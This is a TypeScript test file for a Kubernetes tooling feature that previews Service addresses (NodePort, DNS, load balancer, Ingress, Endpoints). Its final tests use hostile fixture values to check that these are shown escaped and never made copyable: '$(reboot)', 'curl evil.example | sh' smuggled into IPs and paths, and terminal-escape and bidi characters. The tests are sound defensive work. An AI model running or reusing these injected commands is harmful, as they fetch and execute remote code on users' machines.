import assert from 'node:assert/strict';
import { localizer } from '../../server/src/core/l10n';
import { test } from 'node:test';
import { previewLenses, previewModel } from '../../server/src/core/features/preview';
import { WorkspaceIndex } from '../../server/src/core/index/workspace-index';
import { parseNodes } from '../../server/src/core/node-address';
import { DEFAULT_SETTINGS, settingsFrom } from '../../server/src/core/settings';
import type { CheckSettings } from '../../server/src/core/settings';
import type {
  AddressGroup,
  AddressKind,
  PreviewModel,
  ServicePreview,
} from '../../server/src/protocol/preview-protocol';
import { myAppDeployment, myService, webService, workspaceOf } from './test-workspace';

const NODES = settingsFrom({
  nodes: [
    { name: 'master', address: '192.168.1.10' },
    { name: 'worker-1', address: '192.168.1.11' },
    { name: 'worker-2', address: '192.168.1.12' },
  ],
});

/** The seed example: a NodePort Service and the Deployment it selects, in two files. */
const MY_SERVICE = myService(80);

const myApp = myAppDeployment;

const index = (files: Record<string, string>): WorkspaceIndex => workspaceOf(files);

/** A Pod with one label line (`app: front`), for a Service that must select something. */
const podLabelled = (label: string): string =>
  `apiVersion: v1\nkind: Pod\nmetadata:\n  name: p\n  labels:\n    ${label}\nspec:\n  containers:\n    - name: c\n      image: nginx\n`;

function preview(
  files: Record<string, string>,
  file: string,
  settings: CheckSettings = DEFAULT_SETTINGS,
  position?: { line: number; character: number },
): PreviewModel {
  return previewModel(index(files), `file:///ws/${file}`, position, settings, localizer('en'));
}

function only(model: PreviewModel): ServicePreview {
  assert.equal(model.services.length, 1, `one Service, got ${model.services.map((s) => s.name).join(', ')}`);
  return model.services[0];
}

function group(service: ServicePreview, kind: AddressKind): AddressGroup {
  const found = service.addresses.find((g) => g.kind === kind);
  assert.ok(found, `an address group ${kind} among ${service.addresses.map((g) => g.kind).join(', ')}`);
  return found;
}

function texts(g: AddressGroup): string[] {
  return g.addresses.map((a) => a.text);
}

function kinds(service: ServicePreview): AddressKind[] {
  return service.addresses.map((g) => g.kind);
}

test('NodePort with three nodes: one URL per node, the matched Deployment and its container port', () => {
  const service = only(preview({ 'svc.yaml': MY_SERVICE, 'deploy.yaml': myApp() }, 'svc.yaml', NODES));
  assert.equal(service.name, 'my-service');
  assert.equal(service.namespace, 'not set (where it is applied)');
  assert.equal(service.type, 'NodePort');
  assert.equal(service.uri, 'file:///ws/svc.yaml');
  assert.deepEqual(service.range.start, { line: 0, character: 0 });
  assert.deepEqual(service.selector, [{ key: 'app.kubernetes.io/name', value: 'MyApp' }]);
  const nodePorts = group(service, 'node-port');
  assert.deepEqual(texts(nodePorts), ['http://192.168.1.10:30007', 'http://192.168.1.11:30007', 'http://192.168.1.12:30007']);
  assert.ok(nodePorts.addresses.every((a) => a.copyable));
  assert.match(nodePorts.addresses[0].note ?? '', /master/);
  assert.equal(nodePorts.hint, undefined);

  assert.equal(service.workloads.length, 1);
  const [deployment] = service.workloads;
  assert.deepEqual(
    { kind: deployment.kind, name: deployment.name, namespace: deployment.namespace, uri: deployment.uri, replicas: deployment.replicas },
    { kind: 'Deployment', name: 'my-app', namespace: 'not set (where it is applied)', uri: 'file:///ws/deploy.yaml', replicas: 3 },
  );
  assert.deepEqual(deployment.range.start, { line: 0, character: 0 });

  const [port] = service.ports;
  assert.equal(port.chain, '80 → 80 → web/80 (TCP)');
  assert.equal(port.status, 'resolved');
  assert.equal(port.nodePort, 30007);
  assert.deepEqual(port.targets, [
    { workloadKind: 'Deployment', workloadName: 'my-app', container: 'web', containerPort: 80, portName: 'http', protocol: 'TCP' },
  ]);
  assert.match(port.statusText, /Deployment "my-app" → container "web" port 80\/TCP/);
  const clusterDns = group(service, 'cluster-dns');
  assert.deepEqual(texts(clusterDns), [
    'my-service.<namespace>.svc.cluster.local:80',
    'my-service.<namespace>:80',
    'my-service:80',
  ]);
  assert.ok(clusterDns.addresses.every((a) => !a.copyable), 'the namespace is a placeholder');
  assert.deepEqual(service.warnings, []);
});

test('NodePort without nodes: placeholders and a hint to set kubeSvc.nodes; an unset nodePort is assigned by the cluster', () => {
  const unset = MY_SERVICE.replace('      nodePort: 30007\n', '');
  const service = only(preview({ 'svc.yaml': unset, 'deploy.yaml': myApp() }, 'svc.yaml'));
  const nodePorts = group(service, 'node-port');
  assert.deepEqual(texts(nodePorts), ['http://<node IP>:<nodePort>']);
  assert.equal(nodePorts.addresses[0].copyable, false);
  assert.match(nodePorts.hint ?? '', /kubeSvc\.nodes/);
  assert.match(nodePorts.hint ?? '', /assigned by the cluster \(from 30000-32767\)/);

  const withNodes = only(preview({ 'svc.yaml': unset, 'deploy.yaml': myApp() }, 'svc.yaml', NODES));
  assert.deepEqual(texts(group(withNodes, 'node-port')), [
    'http://192.168.1.10:<nodePort>',
    'http://192.168.1.11:<nodePort>',
    'http://192.168.1.12:<nodePort>',
  ]);
  assert.ok(group(withNodes, 'node-port').addresses.every((a) => !a.copyable));
});

test('ClusterIP: DNS names and the cluster IP, no node ports; a named targetPort resolves to the container port', () => {
  const svc = `apiVersion: v1
kind: Service
metadata:
  name: api
  namespace: shop
spec:
  clusterIP: 10.96.0.10
  selector:
    app: api
  ports:
    - name: http
      port: 80
      targetPort: http
`;
  const deploy = myApp('http', 8080).replaceAll('app.kubernetes.io/name: MyApp', 'app: api').replace('name: my-app', 'name: api\n  namespace: shop');
  const service = only(preview({ 'api.yaml': svc, 'deploy.yaml': deploy }, 'api.yaml', NODES));
  assert.equal(service.type, 'ClusterIP');
  assert.deepEqual(kinds(service), ['cluster-dns', 'cluster-ip']);
  assert.deepEqual(texts(group(service, 'cluster-dns')), ['api.shop.svc.cluster.local:80', 'api.shop:80', 'api:80']);
  assert.deepEqual(texts(group(service, 'cluster-ip')), ['10.96.0.10:80']);
  assert.equal(service.ports[0].chain, '80 → http → web/8080 (TCP)');
  assert.equal(service.ports[0].status, 'resolved');
  assert.match(service.sessionAffinity ?? '', /^None/);
});

test('renaming the container port makes the targetPort resolution say so', () => {
  const svc = MY_SERVICE.replace('targetPort: 80', 'targetPort: http');
  const ws = index({ 'svc.yaml': svc, 'deploy.yaml': myApp('http') });
  const before = only(previewModel(ws, 'file:///ws/svc.yaml', undefined, NODES, localizer('en'))).ports[0];
  assert.equal(before.status, 'resolved');
  assert.equal(before.ok, true);
  ws.setFile('file:///ws/deploy.yaml', myApp('web-http'));
  const after = only(previewModel(ws, 'file:///ws/svc.yaml', undefined, NODES, localizer('en')));
  const port = after.ports[0];
  assert.equal(port.status, 'name-not-found');
  assert.equal(port.ok, false);
  assert.equal(port.chain, '80 → http → ? (TCP)');
  assert.match(port.statusText, /no selected container declares a port named "http"/i);
  assert.match(port.statusText, /"web-http" \(80\/TCP\)/);
  assert.ok(after.warnings.some((w) => w.code === 'target-port-name-not-found'), 'the workspace finding is a warning');
});

test('LoadBalancer: the status ingress addresses, else "assigned by the cloud provider"; node ports too', () => {
  const lb = (status: string) => `apiVersion: v1
kind: Service
metadata:
  name: front
spec:
  type: LoadBalancer
  selector:
    app: front
  ports:
    - name: http
      port: 80
      nodePort: 31080
    - name: tls
      port: 443
      nodePort: 31443
${status}`;
  const ready = only(
    preview(
      { 'lb.yaml': lb('status:\n  loadBalancer:\n    ingress:\n      - ip: 203.0.113.7\n      - hostname: lb.example.com\n'), 'pod.yaml': podLabelled('app: front') },
      'lb.yaml',
      NODES,
    ),
  );
  assert.deepEqual(texts(group(ready, 'load-balancer')), [
    'http://203.0.113.7',
    'http://203.0.113.7:443',
    'http://lb.example.com',
    'http://lb.example.com:443',
  ]);
  assert.equal(group(ready, 'load-balancer').hint, undefined);
  assert.deepEqual(texts(group(ready, 'node-port')).slice(0, 3), [
    'http://192.168.1.10:31080',
    'http://192.168.1.11:31080',
    'http://192.168.1.12:31080',
  ]);
  assert.equal(texts(group(ready, 'node-port'))[3], 'http://192.168.1.10:31443');

  const pending = only(preview({ 'lb.yaml': lb('') }, 'lb.yaml', NODES));
  const balancer = group(pending, 'load-balancer');
  assert.match(balancer.hint ?? '', /assigned by the cloud provider/);
  assert.ok(balancer.addresses.every((a) => !a.copyable));
  assert.deepEqual(texts(balancer), ['http://<load balancer>', 'http://<load balancer>:443']);
});

test('ExternalName: the CNAME target, no cluster IP or node ports', () => {
  const svc = `apiVersion: v1
kind: Service
metadata:
  name: db
spec:
  type: ExternalName
  externalName: db.example.com
  ports:
    - port: 5432
`;
  const service = only(preview({ 'db.yaml': svc }, 'db.yaml', NODES));
  assert.equal(service.backing, 'external-name');
  assert.deepEqual(kinds(service), ['cluster-dns', 'external-name']);
  const cname = group(service, 'external-name');
  assert.equal(cname.addresses[0].text, 'db.example.com');
  assert.equal(cname.addresses[0].copyable, true);
  assert.match(service.summary, /CNAME to db\.example\.com/);
  assert.equal(service.ports[0].status, 'external-name');
  assert.match(group(service, 'cluster-dns').hint ?? '', /CNAME for db\.example\.com/);
});

/** The headless Service `db` and its StatefulSet `db` of 3 replicas. */
const DB_HEADLESS = `apiVersion: v1
kind: Service
metadata:
  name: db
spec:
  clusterIP: None
  selector:
    app: db
  ports:
    - name: pg
      port: 5432
`;
const DB_STATEFULSET = `apiVersion: apps/v1
kind: StatefulSet
metadata:
  name: db
spec:
  serviceName: db
  replicas: 3
  selector:
    matchLabels:
      app: db
  template:
    metadata:
      labels:
        app: db
    spec:
      containers:
        - name: postgres
          image: postgres
          ports:
            - name: pg
              containerPort: 5432
`;

test('headless with a StatefulSet of 3 replicas: one DNS name per pod', () => {
  const service = only(preview({ 'db.yaml': DB_HEADLESS, 'sts.yaml': DB_STATEFULSET }, 'db.yaml', NODES));
  assert.equal(service.headless, true);
  assert.deepEqual(kinds(service), ['cluster-dns', 'pod-dns']);
  assert.deepEqual(texts(group(service, 'pod-dns')), [
    'db-0.db.<namespace>.svc.cluster.local',
    'db-1.db.<namespace>.svc.cluster.local',
    'db-2.db.<namespace>.svc.cluster.local',
  ]);
  assert.match(group(service, 'cluster-dns').hint ?? '', /IPs of the ready pods/);
  assert.equal(service.workloads[0].kind, 'StatefulSet');
  assert.equal(service.workloads[0].replicas, 3);
  assert.equal(service.ports[0].chain, '5432 → 5432 → postgres/5432 (TCP)');
});

test('a selector on a StatefulSet pod name: the preview names the pod, and only its DNS name is listed', () => {
  const svc = DB_HEADLESS.replace('    app: db\n', '    app: db\n    statefulset.kubernetes.io/pod-name: db-1\n');
  const files = { 'db.yaml': svc, 'sts.yaml': DB_STATEFULSET };
  const service = only(preview(files, 'db.yaml', { ...DEFAULT_SETTINGS, defaultNamespace: 'default' }));
  assert.equal(service.workloads[0].pod, 'db-1');
  assert.equal(service.workloads[0].podText, 'selects only pod db-1');
  assert.deepEqual(texts(group(service, 'pod-dns')), ['db-1.db.default.svc.cluster.local']);
  const ko = only(previewModel(index(files), 'file:///ws/db.yaml', undefined, DEFAULT_SETTINGS, localizer('ko')));
  assert.equal(ko.workloads[0].podText, '파드 db-1만 선택');
  // By pod index (Kubernetes 1.28+) the same pod; without such a label, no pod is named.
  const byIndex = svc.replace('statefulset.kubernetes.io/pod-name: db-1', 'apps.kubernetes.io/pod-index: "1"');
  assert.equal(only(preview({ ...files, 'db.yaml': byIndex }, 'db.yaml')).workloads[0].pod, 'db-1');
  assert.equal(only(preview({ ...files, 'db.yaml': DB_HEADLESS }, 'db.yaml')).workloads[0].podText, undefined);
});

test('headless with publishNotReadyAddresses: the DNS names also resolve to pods that are not ready', () => {
  const svc = `apiVersion: v1
kind: Service
metadata:
  name: pg-hl
spec:
  clusterIP: None
  publishNotReadyAddresses: true
  selector:
    app: pg
  ports:
    - name: pg
      port: 5432
`;
  const service = only(preview({ 'pg.yaml': svc }, 'pg.yaml'));
  assert.doesNotMatch(service.summary, /ready pods/);
  assert.match(service.summary, /ready or not \(publishNotReadyAddresses\)/);
  assert.match(group(service, 'cluster-dns').hint ?? '', /IPs of the pods, ready or not/);
  const ko = only(previewModel(index({ 'pg.yaml': svc }), 'file:///ws/pg.yaml', undefined, DEFAULT_SETTINGS, localizer('ko')));
  assert.match(ko.summary, /publishNotReadyAddresses/);
  assert.match(group(ko, 'cluster-dns').hint ?? '', /publishNotReadyAddresses/);
});

test('selector-less with Endpoints: the Endpoints addresses, and the port reaches their port', () => {
  const svc = `apiVersion: v1
kind: Service
metadata:
  name: legacy
spec:
  ports:
    - port: 80
      targetPort: 9376
`;
  const endpoints = `apiVersion: v1
kind: Endpoints
metadata:
  name: legacy
subsets:
  - addresses:
      - ip: 10.0.0.5
      - ip: 10.0.0.6
    notReadyAddresses:
      - ip: 10.0.0.7
    ports:
      - port: 9376
`;
  const service = only(preview({ 'svc.yaml': svc, 'ep.yaml': endpoints }, 'svc.yaml'));
  assert.equal(service.backing, 'manual');
  assert.ok(service.selectorNote);
  const found = group(service, 'endpoints');
  assert.deepEqual(texts(found), ['10.0.0.5:9376', '10.0.0.6:9376', '10.0.0.7:9376']);
  assert.match(found.addresses[2].note ?? '', /not ready/);
  assert.equal(service.ports[0].status, 'manual');
  assert.equal(service.ports[0].chain, '80 → 9376 (TCP)');
  assert.equal(service.ports[0].ok, true);

  const alone = only(preview({ 'svc.yaml': svc }, 'svc.yaml'));
  assert.match(group(alone, 'endpoints').hint ?? '', /no endpoints/);
  assert.equal(alone.ports[0].ok, false);
});

test('Ingress routes: https for a host in tls, http otherwise, the controller address for a rule without host', () => {
  const svc = webService('    - name: http\n      port: 80\n');
  const ingress = `apiVersion: networking.k8s.io/v1
kind: Ingress
metadata:
  name: web
spec:
  tls:
    - hosts: [shop.example.com]
      secretName: shop-tls
  rules:
    - host: shop.example.com
      http:
        paths:
          - path: /api
            pathType: Prefix
            backend:
              service:
                name: web
                port:
                  name: http
    - host: plain.example.com
      http:
        paths:
          - path: /
            pathType: Prefix
            backend:
              service:
                name: web
                port:
                  number: 80
    - http:
        paths:
          - path: /web
            pathType: Exact
            backend:
              service:
                name: web
                port:
                  number: 8080
status:
  loadBalancer:
    ingress:
      - ip: 198.51.100.4
`;
  const service = only(preview({ 'svc.yaml': svc, 'ing.yaml': ingress }, 'svc.yaml'));
  const routes = group(service, 'ingress');
  assert.deepEqual(texts(routes), ['https://shop.example.com/api', 'http://plain.example.com/', 'http://198.51.100.4/web']);
  assert.ok(routes.addresses.every((a) => a.copyable));
  assert.match(routes.addresses[0].note ?? '', /Ingress "web" · Prefix · → 80\/TCP \(http\)/);
  assert.match(routes.addresses[2].note ?? '', /the Service has no port 8080/);
});

test('https only for a port named https (or …-https) and appProtocol https; port 443 alone is said in words; UDP gets no scheme', () => {
  const svc = `apiVersion: v1
kind: Service
metadata:
  name: edge
spec:
  type: NodePort
  selector:
    app: edge
  ports:
    - name: tls
      port: 443
      nodePort: 30443
    - name: https
      port: 8443
      nodePort: 30444
    - name: admin
      port: 9000
      appProtocol: https
      nodePort: 30445
    - name: web
      port: 8080
      nodePort: 30446
    - name: web-https
      port: 9443
      nodePort: 30447
    - name: dns
      port: 53
      protocol: UDP
      nodePort: 30053
`;
  const service = only(
    preview({ 'edge.yaml': svc, 'pod.yaml': podLabelled('app: edge') }, 'edge.yaml', settingsFrom({ nodes: [{ address: '192.168.1.10' }] })),
  );
  assert.deepEqual(texts(group(service, 'node-port')), [
    'http://192.168.1.10:30443',
    'https://192.168.1.10:30444',
    'https://192.168.1.10:30445',
    'http://192.168.1.10:30446',
    'https://192.168.1.10:30447',
    '192.168.1.10:30053',
  ]);
  assert.deepEqual(
    service.ports.map((p) => p.scheme),
    ['http', 'https', 'https', 'http', 'https', null],
  );
  const notes = group(service, 'node-port').addresses.map((a) => a.note ?? '');
  assert.match(notes[0], /443\/TCP \(tls\) · port 443 is usually TLS: https:\/\/ if the pod serves TLS/);
  assert.ok(notes.slice(1).every((note) => !note.includes('usually TLS')), 'only port 443 without a TLS name says it');
});

test('the Service at the position, or every Service of the file when the position is on none', () => {
  const two = `${MY_SERVICE}---\napiVersion: v1\nkind: Service\nmetadata:\n  name: second\nspec:\n  ports:\n    - port: 81\n`;
  const files = { 'two.yaml': two, 'deploy.yaml': myApp() };
  const second = preview(files, 'two.yaml', NODES, { line: 16, character: 4 });
  assert.equal(second.scope, 'service');
  assert.deepEqual(second.services.map((s) => s.name), ['second']);
  const first = preview(files, 'two.yaml', NODES, { line: 3, character: 8 });
  assert.deepEqual(first.services.map((s) => s.name), ['my-service']);
  const all = preview(files, 'two.yaml', NODES);
  assert.equal(all.scope, 'file');
  assert.deepEqual(all.services.map((s) => s.name), ['my-service', 'second']);
  const onDeployment = preview(files, 'deploy.yaml', NODES, { line: 1, character: 0 });
  assert.deepEqual(onDeployment.services, []);
  assert.match(onDeployment.empty ?? '', /no Kubernetes Service/);
  assert.deepEqual(
    previewLenses(index(files), 'file:///ws/two.yaml').map((l) => [l.name, l.position.line]),
    [
      ['my-service', 0],
      ['second', 13],
    ],
  );
});

test('warnings are the workspace findings about that Service; Korean words with language ko', () => {
  const svc = MY_SERVICE.replace('app.kubernetes.io/name: MyApp', 'app.kubernetes.io/name: Other');
  const model = previewModel(index({ 'svc.yaml': svc, 'deploy.yaml': myApp() }), 'file:///ws/svc.yaml', undefined, NODES, localizer('ko'));
  const service = only(model);
  assert.deepEqual(service.warnings.map((w) => w.code), ['service-selects-nothing']);
  assert.equal(service.warnings[0].severity, 'warning');
  assert.equal(model.labels.addresses, '주소');
  assert.equal(service.workloads.length, 0);
  assert.ok(service.workloadsNote);
});

test('kubeSvc.nodes: malformed entries are ignored', () => {
  assert.deepEqual(
    parseNodes([
      { name: 'master', address: '192.168.1.10' },
      { address: ' 192.168.1.11 ' },
      { name: 'v6', address: '[fd00::1]' },
      { name: 'host', address: 'node-3.example.com' },
      { name: 'bad', address: 'http://192.168.1.13' },
      { name: 'bad', address: '192.168.1.14:30007' },
      { name: 7, address: '192.168.1.15' },
      { name: 'no address' },
      'node-4',
      null,
    ]),
    [
      { name: 'master', address: '192.168.1.10' },
      { name: '192.168.1.11', address: '192.168.1.11' },
      { name: 'v6', address: 'fd00::1' },
      { name: 'host', address: 'node-3.example.com' },
    ],
  );
  assert.deepEqual(settingsFrom({ nodes: 'x' }).nodes, []);
  assert.deepEqual(DEFAULT_SETTINGS.nodes, []);
  const v6 = only(preview({ 'svc.yaml': MY_SERVICE, 'deploy.yaml': myApp() }, 'svc.yaml', settingsFrom({ nodes: [{ address: 'fd00::1' }] })));
  assert.deepEqual(texts(group(v6, 'node-port')), ['http://[fd00::1]:30007']);
});

test('a file the index does not hold, a Helm template, and defaultNamespace', () => {
  assert.match(preview({}, 'missing.yaml').empty ?? '', /not part of the workspace/);
  const helm = 'apiVersion: v1\nkind: Service\nmetadata:\n  name: {{ .Release.Name }}\nspec:\n  ports:\n    - port: 80\n';
  assert.match(preview({ 'chart.yaml': helm }, 'chart.yaml').empty ?? '', /Helm template/);
  const service = only(preview({ 'svc.yaml': MY_SERVICE }, 'svc.yaml', settingsFrom({ defaultNamespace: 'team-a' })));
  assert.equal(service.namespace, 'team-a');
  assert.equal(texts(group(service, 'cluster-dns'))[0], 'my-service.team-a.svc.cluster.local:80');
});

// --- hostile values (issue 10): only valid addresses are copyable, and what is shown is what is copied ---------

const HOSTILE_LB = `apiVersion: v1
kind: Service
metadata:
  name: web
spec:
  type: LoadBalancer
  selector:
    app: web
  externalIPs:
    - "198.51.100.1\\u001b[2J"
    - 198.51.100.2
  ports:
    - port: 80
      nodePort: 30080
status:
  loadBalancer:
    ingress:
      - ip: "203.0.113.1\\n$(reboot)"
      - hostname: "lb\\u202emoc.example.com"
      - hostname: "lb\\u0000.example.com"
      - ip: 203.0.113.7
`;

/** Every address of the model, with its group. */
function allAddresses(service: ServicePreview): { kind: AddressKind; text: string; copyable: boolean; invalid?: boolean; note?: string }[] {
  return service.addresses.flatMap((g) => g.addresses.map((a) => ({ kind: g.kind, ...a })));
}

/** What a shell or a screen would treat specially: nothing of it may be in a copyable address. */
const UNSAFE = /[\s\p{Cc}\p{Cf}$`'"()<>|;&\\*!{}]/u;

function assertCopyableAreSafe(service: ServicePreview): void {
  for (const a of allAddresses(service)) {
    if (a.copyable) assert.doesNotMatch(a.text, UNSAFE, `copyable ${JSON.stringify(a.text)}`);
    if (a.invalid) {
      assert.equal(a.copyable, false);
      assert.doesNotMatch(a.text, /[\p{Cc}\p{Cf}]/u, `hidden characters shown escaped: ${JSON.stringify(a.text)}`);
      assert.match(a.note ?? '', /^⚠ not a valid address/);
    }
  }
}

test('load balancer and external IPs: a value with a newline, $(…), ESC, NUL or a bidi override is shown escaped, not copyable', () => {
  const service = only(preview({ 'svc.yaml': HOSTILE_LB }, 'svc.yaml'));
  assertCopyableAreSafe(service);
  assert.deepEqual(
    group(service, 'load-balancer').addresses.map((a) => [a.text, a.copyable, a.invalid === true]),
    [
      ['http://203.0.113.1\\n$(reboot)', false, true],
      ['http://lb\\u202emoc.example.com', false, true],
      ['http://lb\\x00.example.com', false, true],
      ['http://203.0.113.7', true, false],
    ],
  );
  assert.deepEqual(
    group(service, 'external-ip').addresses.map((a) => [a.text, a.copyable, a.invalid === true]),
    [
      ['http://198.51.100.1\\x1b[2J', false, true],
      ['http://198.51.100.2', true, false],
    ],
  );
});

test('ExternalName, Endpoints addresses and Ingress hosts and paths: only valid parts make a copyable address', () => {
  const external = `apiVersion: v1\nkind: Service\nmetadata:\n  name: db\nspec:\n  type: ExternalName\n  externalName: "db.example.com\\n"\n  ports:\n    - port: 5432\n`;
  const db = only(preview({ 'db.yaml': external }, 'db.yaml'));
  assertCopyableAreSafe(db);
  // An invalid externalName makes no URL (never `https://[https://…]`): the CNAME shown escaped, and why.
  assert.deepEqual(group(db, 'external-name').addresses.map((a) => [a.text, a.copyable]), [['db.example.com\\n', false]]);
  assert.match(group(db, 'external-name').hint ?? '', /not a valid DNS name/);
  const fqdn = only(preview({ 'db.yaml': external.replace('db.example.com\\n', 'db.example.com.') }, 'db.yaml'));
  assert.deepEqual(group(fqdn, 'external-name').addresses.map((a) => [a.text, a.copyable]), [
    ['db.example.com.', true],
    ['http://db.example.com.:5432', true],
  ]);

  const manual = `apiVersion: v1\nkind: Service\nmetadata:\n  name: legacy\nspec:\n  ports:\n    - port: 80\n---\napiVersion: v1\nkind: Endpoints\nmetadata:\n  name: legacy\nsubsets:\n  - addresses:\n      - ip: "10.0.0.1 && curl evil.example | sh"\n      - ip: 10.0.0.2\n      - ip: 010.0.0.3\n    ports:\n      - port: 8080\n`;
  const legacy = only(preview({ 'legacy.yaml': manual }, 'legacy.yaml'));
  assertCopyableAreSafe(legacy);
  assert.deepEqual(group(legacy, 'endpoints').addresses.map((a) => [a.text, a.copyable]), [
    ['10.0.0.1 && curl evil.example | sh:8080', false],
    ['10.0.0.2:8080', true],
    // Leading zeros: the API server reads 10.0.0.3, curl reads octal 8.0.0.3; not offered.
    ['010.0.0.3:8080', false],
  ]);

  const ingress = `apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  name: shop\nspec:\n  rules:\n    - host: "shop.example.com\\u2028evil"\n      http:\n        paths:\n          - path: /\n            pathType: Prefix\n            backend:\n              service:\n                name: web\n                port:\n                  number: 80\n    - host: shop.example.com\n      http:\n        paths:\n          - path: "/$(curl evil.example|sh)"\n            pathType: ImplementationSpecific\n            backend:\n              service:\n                name: web\n                port:\n                  number: 80\n          - path: /api/v1\n            pathType: Prefix\n            backend:\n              service:\n                name: web\n                port:\n                  number: 80\n`;
  const web = `apiVersion: v1\nkind: Service\nmetadata:\n  name: web\nspec:\n  selector:\n    app: web\n  ports:\n    - port: 80\n`;
  const routed = only(preview({ 'svc.yaml': web, 'ing.yaml': ingress }, 'svc.yaml'));
  assertCopyableAreSafe(routed);
  assert.deepEqual(group(routed, 'ingress').addresses.map((a) => [a.text, a.copyable]), [
    ['http://shop.example.com\\u2028evil/', false],
    ['http://shop.example.com/$(curl evil.example|sh)', false],
    ['http://shop.example.com/api/v1', true],
  ]);
});

test('a Service or namespace name that is not a DNS label makes its cluster DNS names not copyable', () => {
  const named = `apiVersion: v1\nkind: Service\nmetadata:\n  name: "web\\u202e"\n  namespace: "shop\\tx"\nspec:\n  selector:\n    app: web\n  ports:\n    - port: 80\n`;
  const service = only(preview({ 'svc.yaml': named }, 'svc.yaml'));
  assertCopyableAreSafe(service);
  assert.deepEqual(texts(group(service, 'cluster-dns')), [
    'web\\u202e.shop\\tx.svc.cluster.local:80',
    'web\\u202e.shop\\tx:80',
    'web\\u202e:80',
  ]);
  assert.ok(group(service, 'cluster-dns').addresses.every((a) => !a.copyable && a.invalid === true));
  assert.equal(only(preview({ 'svc.yaml': named }, 'svc.yaml', settingsFrom({ language: 'ko' }))).name, 'web\u202e');
});

test('externalTrafficPolicy: Local with three nodes: not every node is listed as answering', () => {
  const local = MY_SERVICE.replace('  type: NodePort\n', '  type: NodePort\n  externalTrafficPolicy: Local\n');
  const unknown = group(only(preview({ 'svc.yaml': local, 'deploy.yaml': myApp() }, 'svc.yaml', NODES)), 'node-port');
  assert.deepEqual(unknown.addresses.map((a) => a.reach), ['maybe', 'maybe', 'maybe'], 'placement unknown: none is said to answer');
  assert.match(unknown.hint ?? '', /only the nodes that run one of its pods answer \(the client IP is kept\); which depends on where the pods run/);

  const placed = settingsFrom({
    nodes: [
      { name: 'master', address: '192.168.1.10' },
      { name: 'worker-1', address: '192.168.1.11', pods: ['my-app-7d9f-abcde'] },
      { name: 'worker-2', address: '192.168.1.12', pods: [] },
    ],
  });
  const known = group(only(preview({ 'svc.yaml': local, 'deploy.yaml': myApp() }, 'svc.yaml', placed)), 'node-port');
  assert.deepEqual(known.addresses.map((a) => [a.text, a.reach, a.copyable]), [
    ['http://192.168.1.10:30007', 'drops', false],
    ['http://192.168.1.11:30007', 'answers', true],
    ['http://192.168.1.12:30007', 'drops', false],
  ]);

  // A pod template pinned with nodeName is placement too.
  const pinned = myApp().replace('    spec:\n      containers:', '    spec:\n      nodeName: worker-2\n      containers:');
  const byName = group(only(preview({ 'svc.yaml': local, 'deploy.yaml': pinned }, 'svc.yaml', NODES)), 'node-port');
  assert.deepEqual(byName.addresses.map((a) => a.reach), ['drops', 'drops', 'answers']);

  // Cluster (the default) lists every node as it did.
  const cluster = group(only(preview({ 'svc.yaml': MY_SERVICE, 'deploy.yaml': myApp() }, 'svc.yaml', NODES)), 'node-port');
  assert.ok(cluster.addresses.every((a) => a.reach === undefined && a.copyable));
});

test('no pod selected: no node URL, and the reason; a targetPort no container declares is never drawn fine', () => {
  const alone = group(only(preview({ 'svc.yaml': MY_SERVICE }, 'svc.yaml', NODES)), 'node-port');
  assert.deepEqual(alone.addresses, []);
  assert.match(alone.hint ?? '', /No pod is selected/);

  const undeclared = MY_SERVICE.replace('targetPort: 80', 'targetPort: 9999');
  const [port] = only(preview({ 'svc.yaml': undeclared, 'deploy.yaml': myApp() }, 'svc.yaml', NODES)).ports;
  assert.equal(port.status, 'undeclared');
  assert.notEqual(port.state, 'ok');
  const [fine] = only(preview({ 'svc.yaml': MY_SERVICE, 'deploy.yaml': myApp() }, 'svc.yaml', NODES)).ports;
  assert.equal(fine.state, 'ok');
});

test('an ExternalName that is a URL makes no bracketed address; an ExternalName shows no session affinity', () => {
  const url = `apiVersion: v1\nkind: Service\nmetadata:\n  name: api\nspec:\n  type: ExternalName\n  externalName: https://api.example.com/v1\n  ports:\n    - port: 443\n`;
  const service = only(preview({ 'api.yaml': url }, 'api.yaml'));
  const all = service.addresses.flatMap((g) => g.addresses.map((a) => a.text));
  assert.ok(!all.some((t) => t.includes('[https://')), all.join(' | '));
  assert.match(group(service, 'external-name').hint ?? '', /not a valid DNS name/);
  assert.equal(service.sessionAffinity, undefined);
});
